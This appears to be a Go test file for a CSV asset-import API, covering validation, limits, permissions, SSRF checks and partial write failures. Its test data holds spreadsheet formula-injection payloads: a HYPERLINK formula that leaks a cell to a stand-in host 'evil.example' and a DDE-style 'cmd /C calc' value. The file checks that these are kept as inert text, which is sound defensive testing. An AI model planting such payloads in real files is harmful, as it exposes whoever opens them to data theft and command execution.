package routes_test

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"rampart/shared/assets"
	"rampart/shared/domain"
	"rampart/shared/dynamo"
)

const importPath = "/api/v1/assets/import"

func csvBody(s string) asmRaw { return asmRaw{ContentType: "text/csv; charset=utf-8", Body: []byte(s)} }

type importAnswer struct {
	Created int `json:"created"`
	Skipped int `json:"skipped"`
	Errors  []struct {
		Row      int    `json:"row"`
		Field    string `json:"field"`
		Location string `json:"location"`
		Message  string `json:"message"`
	} `json:"errors"`
}

func wantImport(created, skipped int) func(*testing.T, *asmResp) {
	return func(t *testing.T, r *asmResp) {
		var a importAnswer
		r.decode(t, &a)
		if a.Created != created || a.Skipped != skipped || a.Errors == nil || len(a.Errors) != 0 {
			t.Fatalf("import = %s, want created %d, skipped %d", r.Body, created, skipped)
		}
	}
}

// totals reads the totals an import must not change when it fails.
func (e *asmEnv) totals(t *testing.T, queries ...string) []int {
	t.Helper()
	var out []int
	for _, q := range queries {
		out = append(out, e.list(t, "/api/v1/assets?per_page=1&"+q, e.admin).Total)
	}
	return out
}

func TestAssetImport(t *testing.T) {
	e := newAsmEnv(t)
	e.resolver.set("internal.example.org", "10.0.0.7")
	formula := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	valid := "\ufefftype,target,name,client_id,tags,description\r\n" +
		"domain,Import-One.example.org,,," + "web;PCI|web,first\r\n" +
		"ip,93.184.215.20,Edge,%s,edge,\r\n" +
		"url,https://import.example.org:443/login#x,\"" + strings.ReplaceAll(formula, `"`, `""`) + "\",,,\"+SUM(1;2)\r\n-cmd|' /C calc'!A0\"\r\n" +
		"other,,Policy document,,,\r\n" +
		"repository,https://git.example.org/r,,%s,,\"@SUM(1)\"\r\n"
	valid = fmt.Sprintf(valid, e.client, e.client)

	t.Run("text/csv", func(t *testing.T) {
		r := e.call("POST", importPath, e.auditor, csvBody(valid))
		if r.Code != 200 {
			t.Fatalf("%d %s", r.Code, r.Body)
		}
		wantImport(5, 0)(t, r)
		p := e.list(t, "/api/v1/assets?q=import.example.org&type=url", e.viewer)
		if len(p.Items) != 1 {
			t.Fatalf("url asset: %+v", p)
		}
		// Formula cells come back exactly as written: plain text.
		got := e.call("GET", "/api/v1/assets/"+p.Items[0].ID, e.viewer, nil).json(t)
		if got["name"] != formula || got["description"] != "+SUM(1;2)\n-cmd|' /C calc'!A0" || got["target"] != "https://import.example.org/login" {
			t.Fatalf("round trip: %v", got)
		}
		if p := e.list(t, "/api/v1/assets?tag=pci", e.viewer); len(p.Items) != 1 || fmt.Sprint(p.Items[0].Tags) != "[web pci]" || *p.Items[0].Target != "import-one.example.org" {
			t.Fatalf("tags: %+v", p)
		}
		if p := e.list(t, "/api/v1/assets?client_id="+e.client, e.viewer); p.Total != 2 {
			t.Fatalf("client total %d", p.Total)
		}
		if p := e.list(t, "/api/v1/assets?q=policy", e.viewer); len(p.Items) != 1 || p.Items[0].Target != nil {
			t.Fatalf("artefact: %+v", p)
		}
	})

	t.Run("re-upload skips what exists", func(t *testing.T) {
		// The target-less artefact has no key: it is created again.
		r := e.call("POST", importPath, e.admin, csvBody(valid))
		if r.Code != 200 {
			t.Fatalf("%d %s", r.Code, r.Body)
		}
		wantImport(1, 4)(t, r)
	})

	t.Run("multipart", func(t *testing.T) {
		file := "type,target,tags\nhost,multi.example.org,mp\nip,93.184.215.20,mp\n"
		r := e.call("POST", importPath, e.admin, asmMultipart(t, "file", []byte(file)))
		if r.Code != 200 {
			t.Fatalf("%d %s", r.Code, r.Body)
		}
		wantImport(1, 1)(t, r)
		if p := e.list(t, "/api/v1/assets?tag=mp", e.viewer); p.Total != 1 {
			t.Fatalf("tag total %d", p.Total)
		}
	})

	// Every failure below must leave these totals as they are.
	watch := []string{"", "tag=fresh", "type=domain", "client_id=" + e.client}
	before := e.totals(t, watch...)
	lookups := e.resolver.lookups.Load()
	bad := func(name string, body any, code int, locs []string, detail string) asmCase {
		return asmCase{name: name, method: "POST", path: importPath, user: e.admin, body: body, code: code, locs: locs, detail: detail}
	}
	big := append([]byte("type,target,description\ndomain,big.example.org,"), bytes.Repeat([]byte("x"), assets.MaxImportBytes)...)
	var many strings.Builder
	many.WriteString("type,target,tags\n")
	for i := range assets.MaxImportRows + 1 {
		fmt.Fprintf(&many, "domain,r%d.example.org,fresh\n", i)
	}
	e.run(t, []asmCase{
		bad("invalid rows: nothing written", csvBody("type,target,name,client_id,tags\n"+
			"domain,fresh-1.example.org,,,fresh\n"+
			"domain,not a domain,,,fresh\n"+
			"printer,x,,,fresh\n"+
			"domain,fresh-2.example.org,,"+e.otherClient+",fresh\n"+
			"domain,fresh-3.example.org,,,bad tag\n"+
			"domain,FRESH-1.example.org.,,,fresh\n"+
			"ip,10.0.0.1,,,fresh\n"+
			"host,internal.example.org,,,fresh\n"+
			"other,,,,fresh\n"),
			422, []string{"row 3.target", "row 4.type", "row 5.client_id", "row 6.tags", "row 7.target", "row 8.target", "row 9.target", "row 10.name"},
			"nothing was imported"),
		bad("unknown column", csvBody("type,target,owner\ndomain,fresh.example.org,me\n"), 422, []string{"row 1"}, "unknown column"),
		bad("missing target column", csvBody("type,name\ndomain,x\n"), 422, []string{"row 1"}, "target"),
		bad("invalid UTF-8", csvBody("type,target,name\ndomain,fresh.example.org,caf\xe9\n"), 422, []string{"body"}, "UTF-8"),
		bad("bad CSV quoting", csvBody("type,target\ndomain,\"fresh.example.org\n"), 422, nil, "not valid CSV"),
		bad("over 5 MiB as text/csv", asmRaw{"text/csv", big}, 413, nil, "5 MiB"),
		bad("over 5 MiB as multipart", asmMultipart(t, "file", big), 413, nil, "5 MiB"),
		bad("over 10,000 rows", csvBody(many.String()), 413, nil, "10000"),
		bad("JSON is not a CSV", map[string]any{"type": "domain"}, 415, nil, "text/csv"),
		bad("multipart without file", asmMultipart(t, "upload", []byte("type,target\n")), 422, []string{"body.file"}, ""),
		bad("multipart without boundary", asmRaw{"multipart/form-data", []byte("x")}, 400, nil, ""),
		bad("empty body", csvBody(""), 400, nil, ""),
		{name: "viewer", method: "POST", path: importPath, user: e.viewer, body: csvBody("type,target\ndomain,fresh.example.org\n"), code: 403},
		{name: "client member", method: "POST", path: importPath, user: e.member, body: csvBody("type,target\ndomain,fresh.example.org\n"), code: 403},
		{name: "no token", method: "POST", path: importPath, body: csvBody("type,target\ndomain,fresh.example.org\n"), code: 401},
	})
	if after := e.totals(t, watch...); !slices.Equal(before, after) {
		t.Fatalf("totals %v after failed imports, were %v", after, before)
	}
	// The three names that parsed in the invalid file (fresh-1, fresh-2,
	// internal) were looked up once each; the literal 10.0.0.1 never was,
	// and files refused before validation looked nothing up.
	if n := e.resolver.lookups.Load() - lookups; n != 3 {
		t.Fatalf("%d lookups, want 3", n)
	}

	t.Run("duplicate rows are errors", func(t *testing.T) {
		r := e.call("POST", importPath, e.admin, csvBody("type,target\nhost,dup.example.org\nhost,DUP.example.org\n"))
		if r.Code != 422 || !slices.Equal(r.locations(), []string{"row 3.target"}) || !strings.Contains(string(r.Body), "duplicate of row 2") {
			t.Fatalf("%d %s", r.Code, r.Body)
		}
	})

	t.Run("write failure midway is reported", func(t *testing.T) {
		real := e.assets.Store
		e.assets.Store = &halfWriter{Store: e.p.Store()}
		defer func() { e.assets.Store = real }()
		var b strings.Builder
		b.WriteString("type,target\n")
		for i := range 10 {
			fmt.Fprintf(&b, "domain,half-%d.example.org\n", i)
		}
		r := e.call("POST", importPath, e.admin, csvBody(b.String()))
		var a importAnswer
		r.decode(t, &a)
		if r.Code != 200 || a.Created != 5 || len(a.Errors) != 1 || a.Errors[0].Row != 7 || a.Errors[0].Location != "row 7" ||
			!strings.Contains(a.Errors[0].Message, "database unavailable") || !strings.Contains(a.Errors[0].Message, "again") {
			t.Fatalf("%d %s", r.Code, r.Body)
		}
		e.assets.Store = real
		// Uploading the same file again finishes the job.
		r = e.call("POST", importPath, e.admin, csvBody(b.String()))
		wantImport(5, 5)(t, r)
	})
}

// halfWriter writes the first half of an import and then fails like an
// unavailable database.
type halfWriter struct{ *dynamo.Store }

func (h *halfWriter) WriteAssets(ctx context.Context, org string, as []domain.Asset) assets.WriteResult {
	half := len(as) / 2
	res := h.Store.WriteAssets(ctx, org, as[:half])
	res.FailedAt, res.Err = half, domain.E(domain.KindUnavailable, "database unavailable")
	return res
}

// BenchmarkImport10k imports a file of 10,000 new assets (domains, tagged,
// half of them with a client) through the HTTP route against DynamoDB
// Local: parsing, validation, SSRF check (a resolver that answers at once),
// duplicate check and batched writes.
func BenchmarkImport10k(b *testing.B) {
	e := newAsmEnv(b)
	for n := 0; b.Loop(); n++ {
		b.StopTimer()
		var f strings.Builder
		f.WriteString("type,target,name,client_id,tags\n")
		for i := range assets.MaxImportRows {
			host := fmt.Sprintf("h%d-%d.bench.example", i, n)
			e.resolver.set(host, "93.184.215.14")
			client := ""
			if i%2 == 0 {
				client = e.client
			}
			fmt.Fprintf(&f, "domain,%s,Host %d,%s,bench;t%d\n", host, i, client, i%5)
		}
		body := csvBody(f.String())
		b.StartTimer()
		r := asmServe(b, e.srv, http.MethodPost, importPath, e.admin, body)
		if r.Code != 200 || !strings.Contains(string(r.Body), `"created":10000`) {
			b.Fatalf("%d %s", r.Code, r.Body)
		}
	}
}
